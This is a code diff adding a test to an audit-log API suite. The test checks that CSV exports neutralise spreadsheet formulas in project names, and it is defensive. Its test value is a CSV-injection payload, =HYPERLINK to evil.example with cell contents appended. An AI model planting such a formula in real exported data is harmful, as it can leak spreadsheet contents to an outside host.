@@ -519,6 +519,20 @@ describe.skipIf(!TEST_POSTGRES_ADMIN_URL).each(TEST_DATABASE_KINDS)("the audit l
     expect(lines[1]).toContain(`,${other.id},Fleet register,`);
   });
 
+  it("exports names that would be formulas in a spreadsheet as text: a project called =HYPERLINK(…) is a name, not a link", async () => {
+    const owner = await api.tokenFor(USERS.clientAdmin);
+    const admin = await api.tokenFor(USERS.superAdmin);
+    const applicationId = (await makeApplication(api, birch.id)).id;
+    const name = '=HYPERLINK("https://evil.example/?"&A1,"Open")';
+    const project = (await api.send("POST", "/api/v1/projects", owner, { companyId: birch.id, applicationId, name, sourceType: "FlatFile" })).body;
+    const csv = await api.app.request(`/api/v1/audit-log.csv?workspace=${project.id}`, { headers: { authorization: `Bearer ${admin}` } });
+    const lines = (await csv.text()).trim().split("\r\n");
+    expect(lines).toHaveLength(2);
+    expect(lines[1]).toContain(`,${project.id},"'=HYPERLINK(""https://evil.example/?""&A1,""Open"")",`);
+    // The page's list keeps the name as it is.
+    expect((await api.get(`/api/v1/audit-log?workspace=${project.id}`, admin)).body.items[0].workspace.name).toBe(name);
+  });
+
   it("says how many days its entries are kept (AUDIT_RETENTION_DAYS), for the page to tell its readers", async () => {
     const admin = await api.tokenFor(USERS.superAdmin);
     expect((await api.get("/api/v1/audit-log?pageSize=10", admin)).body.retentionDays).toBe(365);
